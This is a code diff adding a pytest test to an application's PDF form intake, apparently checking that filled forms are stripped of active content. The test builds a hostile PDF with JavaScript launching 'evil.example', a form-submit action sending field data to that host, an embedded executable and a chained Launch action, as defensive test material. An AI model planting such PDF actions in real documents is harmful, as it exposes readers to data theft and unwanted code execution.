@@ -12,6 +12,7 @@ from pikepdf import Array, Dictionary, Name, String
 
 from sencoapp import reference
 from sencoapp.documents import DocumentRoom
+from sencoapp.documents.intake.pdf import dangers
 from sencoapp.domain.refusals import Fault
 from sencoapp.services.documents_port import FilledForm
 from tests.documents.own_forms.pdf_forms import bare_form, changed, drawn_form
@@ -198,3 +199,21 @@ def test_a_form_with_bytes_changed_is_read_or_refused_in_words(data: st.DataObje
     except Fault as fault:
         said = reference.explain(fault)
     assert not said or said.endswith(".")
+
+
+@pytest.mark.parametrize("flat", [False, True])
+def test_nothing_in_a_filled_form_runs_sends_or_is_attached_and_a_link_stays(flat):
+    def arm(pdf: pikepdf.Pdf) -> None:
+        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://evil.example')"))
+        pdf.attachments["tool.exe"] = b"MZ"
+        field = pdf.Root.AcroForm.Fields[0]
+        field.AA = Dictionary(K=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))
+        run = Dictionary(S=Name.Launch, F=String("tool.exe"))
+        field.A = pdf.make_indirect(Dictionary(S=Name.URI, URI=String("https://www.gov.uk"), Next=Array([run])))
+
+    armed = changed(drawn_form(), arm)
+    assert set(dangers("form.pdf", armed)) == {"pdf_attachments", "pdf_scripts", "pdf_starts"}
+    made = fill(armed, {ROOM.read_own_form("form.pdf", armed).places[0].key: ""}, flat=flat)
+    assert dangers("form.pdf", made.content) == ()
+    assert b"evil.example" not in made.content
+    assert flat or b"https://www.gov.uk" in made.content
